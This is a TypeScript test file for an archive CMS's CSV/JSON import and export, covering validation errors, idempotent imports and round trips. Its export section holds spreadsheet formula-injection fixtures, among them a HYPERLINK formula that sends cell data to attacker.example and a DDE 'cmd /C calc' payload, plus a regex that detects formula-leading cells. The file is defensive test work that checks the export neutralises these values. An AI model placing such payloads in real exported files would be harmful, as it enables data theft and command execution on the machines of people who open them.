import { spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { lexicalToParagraphs, paragraphsToLexical } from '@arkivi/content-schemas'
import { parse } from 'csv-parse/sync'
import type { Payload } from 'payload'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { exportArchive } from '../export/exportArchive.ts'
import { describeProblem, folderSource, planImport, writeImport } from '@arkivi/cms/import'
import { readRecords } from '../import/read.ts'
import { ROOT } from '../lib/paths.ts'
import { cli } from './cli.ts'
import { seededPayload } from './seededPayload.ts'

const SAMPLES = path.join(ROOT, 'scripts/import/samples')
const VALID = path.join(SAMPLES, 'archive-items.valid.csv')
const ERRORS = path.join(SAMPLES, 'archive-items.errors.csv')

const t = seededPayload('import')
let payload: Payload

beforeAll(() => {
  payload = t.payload
})

async function importFile(file: string) {
  const plan = await planImport(payload, readRecords(file), folderSource(path.dirname(file)))
  return { plan, run: () => writeImport(payload, plan, () => {}) }
}

const countItems = async () => (await payload.count({ collection: 'archive-items' })).totalDocs
const mediaFiles = () => (existsSync(t.mediaDir) ? readdirSync(t.mediaDir).sort() : [])

describe('import validation', () => {
  it('reports every problem of the deliberate-errors sample with row, column, value and reason', async () => {
    const { plan } = await importFile(ERRORS)
    const found = plan.problems.map((problem) => describeProblem(problem, 'en')).map(({ row, column, value }) => `${row} ${column} ${value}`)
    expect(found).toEqual(
      expect.arrayContaining([
        'header colour colour',
        'row 2 date ',
        'row 3 title_sq ',
        'row 3 date 2013-02-30',
        'row 3 type Photo',
        'row 3 languages xx',
        'row 3 rights CC0',
        'row 3 visibility secret',
        'row 3 status live',
        'row 3 subjects Unknown subject',
        'row 3 municipality Atlantis',
        'row 3 files files/missing.pdf',
        'row 3 related ARK-NOWHERE',
        'row 4 identifier ARK-BAD-0002',
        'row 4 files files/not-an-image.png',
      ]),
    )
    for (const problem of plan.problems) expect(describeProblem(problem, 'en').reason).not.toMatch(/^$|\{/)
  })

  it('refuses to write a file with problems, leaving the database and media as they were', async () => {
    const before = await countItems()
    const files = mediaFiles()
    const { run } = await importFile(ERRORS)
    await expect(run()).rejects.toThrow(/nothing was written/)
    expect(await countItems()).toBe(before)
    expect(mediaFiles()).toEqual(files)
  })

  it('resolves unknown subjects, municipalities, files and related items as problems', async () => {
    const records = [
      {
        row: { kind: 'row' as const, number: 2 },
        values: {
          identifier: 'ARK-REF-1',
          title_sq: 'Provë',
          date: '2013',
          type: 'Text',
          rights: 'InC',
          subjects: 'Unknown subject',
          municipality: 'Atlantis',
          files: 'files/missing.pdf',
          related: 'ARK-NOWHERE',
        },
      },
    ]
    const plan = await planImport(payload, records, folderSource(SAMPLES))
    expect(plan.problems.map((p) => `${p.column}: ${describeProblem(p, 'en').reason}`)).toEqual([
      'subjects: no such name or slug',
      'municipality: no such name or slug',
      expect.stringMatching(/^files: file not found/),
      'related: no archive item with this identifier',
    ])
  })

  it('the CLI dry run prints the problems and exits non-zero', () => {
    const result = spawnSync('npx', ['tsx', 'scripts/import/index.ts', ERRORS, '--dry-run'], {
      cwd: ROOT,
      env: { ...process.env, INIT_CWD: ROOT },
      encoding: 'utf8',
      timeout: 120_000,
    })
    expect(result.status, result.stderr).toBe(1)
    expect(result.stderr).toMatch(/problems in .*archive-items\.errors\.csv/)
    expect(result.stdout).toContain('ARK-BAD-0002')
    expect(result.stderr).toContain('nothing would be written')
  })
})

describe('import', () => {
  it('a dry run of the valid sample finds no problem and writes nothing', async () => {
    const before = await countItems()
    const { plan } = await importFile(VALID)
    expect(plan.problems).toEqual([])
    expect(plan.items).toHaveLength(3)
    expect(await countItems()).toBe(before)
  })

  it('writes every row with its translations, references and files, then updates instead of duplicating', async () => {
    const before = await countItems()
    const first = await (await importFile(VALID)).run()
    expect(first).toMatchObject({ created: 3, updated: 0, files: 2 })
    expect(await countItems()).toBe(before + 3)

    const [item] = (await payload.find({ collection: 'archive-items', where: { identifier: { equals: 'ARK-IMPORT-0002' } }, locale: 'all', depth: 1 })).docs
    expect(item.title).toEqual({
      sq: 'Shembull importi: Grupe mbështetëse të familjes',
      sr: 'Primer uvoza: Grupe podrške za porodice',
      en: 'Import sample: Family support groups',
    })
    expect(item.date).toMatchObject({ value: '2013-07-01T00:00:00.000Z', precision: 'month', approximate: false })
    expect((item.municipality as { slug: string }).slug).toBe('prishtine')
    expect((item.subjects as { slug: string }[]).map((s) => s.slug)).toEqual(['psychosocial-support'])
    expect((item.files as { filename: string }[]).map((f) => f.filename)).toEqual(['import-sample-photo.png'])
    expect(item._status).toBe('published')

    const second = await (await importFile(VALID)).run()
    expect(second).toMatchObject({ created: 0, updated: 3, files: 0 })
    expect(await countItems()).toBe(before + 3)
  })

  it('keeps an imported draft and a restricted row away from the public', async () => {
    const { docs } = await payload.find({ collection: 'archive-items', overrideAccess: false, where: { identifier: { like: 'ARK-IMPORT' } } })
    expect(docs.map((doc) => doc.identifier).sort()).toEqual(['ARK-IMPORT-0001', 'ARK-IMPORT-0002'])
  })
})

describe('CSV export opened in a spreadsheet', () => {
  // Values a spreadsheet would run as formulas, legitimate ones that only look like it, and one
  // that really starts with the quote the export adds. (Whitespace around values is trimmed by
  // the import, so leading-space cases are in the unit tests of the rule.)
  const identifier = 'ARK-FORMULA-0001'
  const hostile = {
    title: { sq: '=HYPERLINK("https://attacker.example/?d="&AE2;"hap")', sr: '-1990-ih: prva okupljanja', en: '@cel_ks +1' },
    format: "'=literally this",
    creators: ['+383 44 000 000', 'Qendra për Barazi dhe Liri (CEL)'],
    place: { sq: '"=1+1"', sr: '\uFF1DSUM(A1)', en: 'Prishtina' },
    consentNotes: "=cmd|' /C calc'!A0",
    takedownNotes: 'info@cel-ks.org',
  }
  const description = ['=1+1', '- a bullet that starts a cell with a minus']
  let exported: { file: string; dir: string }

  beforeAll(async () => {
    const data = {
      ...hostile,
      identifier,
      title: hostile.title.sq,
      place: hostile.place.sq,
      description: paragraphsToLexical(description),
      date: { value: '1995-01-01T00:00:00.000Z', precision: 'year' },
      type: 'Text',
      rights: 'InC',
      visibility: 'restricted',
      _status: 'draft',
    } as const
    const { id } = await payload.create({ collection: 'archive-items', data, locale: 'sq', draft: true })
    for (const locale of ['sr', 'en'] as const) {
      await payload.update({ collection: 'archive-items', id, data: { title: hostile.title[locale], place: hostile.place[locale] }, locale, draft: true })
    }
    const dir = mkdtempSync(path.join(tmpdir(), 'arkivi-export-formulas-'))
    exported = { file: (await exportArchive(payload, 'csv', dir)).file, dir }
  })
  afterAll(() => rmSync(exported.dir, { recursive: true, force: true }))

  it('writes a single quote in front of every cell a spreadsheet could run, and quotes every cell', () => {
    const text = readFileSync(exported.file, 'utf8')
    expect(text.startsWith('"identifier","title_sq","title_sr","title_en",')).toBe(true)
    const rows = parse(text, { columns: true }) as Record<string, string>[]
    expect(rows.find((row) => row.identifier === identifier)).toMatchObject({
      title_sq: `'${hostile.title.sq}`,
      title_sr: `'${hostile.title.sr}`,
      title_en: `'${hostile.title.en}`,
      format: `'${hostile.format}`,
      creators: `'${hostile.creators.join('; ')}`,
      place_sq: `'${hostile.place.sq}`,
      place_sr: `'${hostile.place.sr}`,
      place_en: 'Prishtina',
      description_sq: `'${description.join('\n\n')}`,
      consent_notes: `'${hostile.consentNotes}`,
      takedown_notes: 'info@cel-ks.org',
    })
    for (const cell of rows.flatMap((row) => Object.values(row))) {
      expect(cell).not.toMatch(/^[\s"]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^\s*[\t\r\n]/)
    }
  })

  it('reads the prefix off a cell only where the export would have put it', () => {
    const file = path.join(exported.dir, 'hand-made.csv')
    writeFileSync(file, `identifier,title_sq,title_sr,title_en,format\nARK-HAND-1,'-1990s,''=x,'O'Brien,-1990s\n`)
    expect(readRecords(file)[0].values).toEqual({ identifier: 'ARK-HAND-1', title_sq: '-1990s', title_sr: "'=x", title_en: "'O'Brien", format: '-1990s' })
  })

  it('imports the export back to exactly the original values', async () => {
    await payload.delete({ collection: 'archive-items', where: { identifier: { equals: identifier } } })
    const { plan, run } = await importFile(exported.file)
    expect(plan.problems).toEqual([])
    await run()
    const [item] = (await payload.find({ collection: 'archive-items', where: { identifier: { equals: identifier } }, locale: 'all', draft: true })).docs
    expect(item).toMatchObject(hostile)
    expect(lexicalToParagraphs((item.description as Record<string, unknown>).sq)).toEqual(description)
  })
})

describe('export → import round trip', () => {
  it.each(['json', 'csv'] as const)('%s: another database given the export exports the same archive', async (format) => {
    const out = mkdtempSync(path.join(tmpdir(), `arkivi-export-${format}-`))
    const exported = await exportArchive(payload, format, path.join(out, 'first'))
    expect(exported.items).toBe(await countItems())

    // A second database, seeded with the same reference data (and the same sample items, which
    // the import then overwrites from the file), receives the export through the CLIs.
    const target = { DATABASE_URL: `file:${path.join(out, 'target.db')}`, MEDIA_DIR: path.join(out, 'media') }
    cli('seed/index.ts', [], target)
    expect(cli('import/index.ts', [exported.file], target)).toMatch(/import: \d+ created, \d+ updated/)
    cli('export/index.ts', ['--format', format, '--out', path.join(out, 'again')], target)

    const read = (file: string) => readRecords(file).map((record) => record.values)
    const again = read(path.join(out, 'again', `archive-items.${format}`))
    expect(again).toEqual(read(exported.file))
    expect(again.length).toBeGreaterThanOrEqual(9)
    expect(readdirSync(path.join(out, 'again', 'files')).sort()).toEqual(readdirSync(path.join(out, 'first', 'files')).sort())
    rmSync(out, { recursive: true, force: true })
  })
})
